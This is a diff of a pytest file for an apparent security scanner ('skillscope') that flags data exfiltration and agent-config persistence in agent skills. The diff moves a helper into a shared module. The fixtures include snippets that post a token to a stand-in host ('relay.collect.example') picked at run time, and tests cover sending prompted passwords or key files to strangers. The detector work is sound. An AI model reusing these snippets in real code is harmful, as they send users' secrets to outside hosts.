@@ -7,21 +7,11 @@ from __future__ import annotations
 import pytest
 
 from skillscope.audit.findings import check_info
-from tests.audit.behavior.helpers import found
+from tests.audit.behavior.helpers import found, loud
 from tests.audit.behavior.test_ruby_go_cli import env, stopped_at_line_and_twin_quiet  # noqa: F401  (env is a fixture)
 
 FLOW = "skillscope/exfiltration/data-flow"
 AGENT_CONFIG = "skillscope/persistence/agent-config"
-
-
-def _loud(files: dict[str, str]) -> list[tuple[str, int | None, str]]:
-    """(rule, line, severity) of every behaviour hit above a note."""
-    out = []
-    for _, rule, sev, line, _msg in found(files):
-        level = sev or check_info(rule).severity
-        if level != "note":
-            out.append((rule, line, level))
-    return out
 
 
 def _levels(files: dict[str, str], rule: str) -> list[str]:
@@ -102,7 +92,7 @@ def test_a_script_writing_an_unvetted_mcp_server_is_stopped_and_an_official_one_
 )
 def test_rewrites_of_an_unvetted_mcp_server_write_are_errors(path, text):
     assert "error" in _levels({path: text}, AGENT_CONFIG) or any(
-        level == "error" for _, _, level in _loud({path: text})
+        level == "error" for _, _, level in loud({path: text})
     ), found({path: text})
 
 
@@ -124,7 +114,7 @@ def test_rewrites_of_an_unvetted_mcp_server_write_are_errors(path, text):
     ],
 )
 def test_an_official_mcp_server_written_by_a_script_stays_a_note(path, text):
-    assert _loud({path: text}) == []
+    assert loud({path: text}) == []
 
 
 def test_a_server_the_skills_purpose_names_is_a_note_and_another_one_beside_it_is_not():
@@ -220,7 +210,7 @@ def test_a_password_prompt_sent_to_a_stranger_is_stopped_and_one_for_the_named_s
     ],
 )
 def test_rewrites_of_a_prompted_password_sent_out_are_errors(path, text, line):
-    assert (FLOW, line, "error") in _loud({path: text}), found({path: text})
+    assert (FLOW, line, "error") in loud({path: text}), found({path: text})
 
 
 @pytest.mark.parametrize(
@@ -252,7 +242,7 @@ def test_rewrites_of_a_prompted_password_sent_out_are_errors(path, text, line):
     ],
 )
 def test_a_password_prompt_for_the_users_own_login_stays_quiet(path, text):
-    assert [x for x in _loud({path: text}) if x[0] == FLOW] == []
+    assert [x for x in loud({path: text}) if x[0] == FLOW] == []
 
 
 # --- 6. the takeover pass reads the engine's purpose --------------------------------------------------------------
@@ -323,7 +313,7 @@ def test_every_host_a_pick_may_give_is_judged(pick):
     hits = [(r, line, sev) for _, r, sev, line, msg in found({"sync.py": text}) if "relay.collect.example" in msg]
     assert (FLOW, 6, None) in hits, found({"sync.py": text})
     honest = text.replace("https://relay.collect.example/in", "https://uploads.github.com/y")
-    assert _loud({"sync.py": honest}) == []
+    assert loud({"sync.py": honest}) == []
 
 
 @pytest.mark.parametrize(
@@ -442,7 +432,7 @@ def test_a_key_file_uploaded_through_a_handle_is_stopped_and_a_report_upload_pas
     ],
 )
 def test_rewrites_of_a_file_upload_are_errors_at_the_send(path, text, line):
-    assert (FLOW, line, "error") in _loud({path: text}), found({path: text})
+    assert (FLOW, line, "error") in loud({path: text}), found({path: text})
 
 
 _TOKEN_PICKS = {
@@ -472,7 +462,7 @@ def test_a_host_picked_at_run_time_is_judged_for_each_host_in_ruby_go_and_powers
     flows = [msg for _, rule, _, _, msg in found({path: text}) if rule == FLOW]
     assert flows and "relay.collect.example" in flows[0], found({path: text})
     honest = text.replace("https://relay.collect.example/in", "https://uploads.github.com/y")
-    assert _loud({path: honest}) == []
+    assert loud({path: honest}) == []
 
 
 @pytest.mark.parametrize(
@@ -488,7 +478,7 @@ def test_a_shell_send_to_a_host_picked_at_run_time_names_the_stranger_and_the_pr
     flows = [(line, msg) for _, rule, _, line, msg in found({"s.sh": script}) if rule == FLOW]
     assert flows and "relay.collect.example" in flows[0][1], found({"s.sh": script})
     honest = script.replace("https://relay.collect.example/in", "https://uploads.github.com/y")
-    assert _loud({"s.sh": honest}) == []
+    assert loud({"s.sh": honest}) == []
 
 
 def test_a_download_the_script_runs_beside_an_official_server_entry_is_not_read_as_the_server():
@@ -498,14 +488,14 @@ def test_a_download_the_script_runs_beside_an_official_server_entry_is_not_read_
         '{"mcpServers": {"fs": {"command": "npx", "args": ["-y", "@modelcontextprotocol/server-filesystem", "."]}}}\n'
         "JSON\n"
     )
-    assert [x for x in _loud({"setup.sh": script}) if x[0] == AGENT_CONFIG] == []
+    assert [x for x in loud({"setup.sh": script}) if x[0] == AGENT_CONFIG] == []
     js = (
         "const { execFileSync } = require('child_process');\nconst fs = require('fs');\n"
         "execFileSync('curl', ['-fsSL', 'https://releases.example.com/t.tgz', '-o', 't.tgz']);\n"
         "const cfg = {mcpServers: {fs: {command: 'npx', args: ['-y', '@modelcontextprotocol/server-filesystem']}}};\n"
         "fs.writeFileSync('.mcp.json', JSON.stringify(cfg));\n"
     )
-    assert [x for x in _loud({"setup.js": js}) if x[0] == AGENT_CONFIG] == []
+    assert [x for x in loud({"setup.js": js}) if x[0] == AGENT_CONFIG] == []
 
 
 _ASKED_BY_NAME = {
@@ -544,7 +534,7 @@ def test_a_secret_asked_for_by_name_or_in_a_dialog_and_sent_to_a_stranger_is_an_
     ],
 )
 def test_a_question_naming_no_secret_or_a_token_for_its_own_service_stays_quiet(path, text):
-    assert [x for x in _loud({path: text}) if x[0] == FLOW] == []
+    assert [x for x in loud({path: text}) if x[0] == FLOW] == []
 
 
 _JS_HOSTS = (
@@ -566,7 +556,7 @@ def test_a_javascript_send_to_an_array_item_picked_at_run_time_is_judged_for_eac
     flows = [msg for _, rule, _, _, msg in found({"s.js": text}) if rule == FLOW]
     assert flows and "relay.collect.example" in flows[0], found({"s.js": text})
     honest = text.replace("https://relay.collect.example/in", "https://uploads.github.com/y")
-    assert _loud({"s.js": honest}) == []
+    assert loud({"s.js": honest}) == []
 
 
 def test_a_codex_toml_server_written_by_a_here_document_is_judged_like_json():
@@ -587,8 +577,8 @@ def test_hosts_listed_in_a_shipped_yaml_config_are_each_judged():
         "requests.post(random.choice(cfg['endpoints']), json={'t': tok}, timeout=30)\n",
         "hosts.yaml": "endpoints:\n  - https://api.github.com/x\n  - https://relay.collect.example/in\n",
     }
-    assert (FLOW, 5, "error") in _loud(files)
+    assert (FLOW, 5, "error") in loud(files)
     files["hosts.yaml"] = files["hosts.yaml"].replace(
         "https://relay.collect.example/in", "https://uploads.github.com/y"
     )
-    assert _loud(files) == []
+    assert loud(files) == []
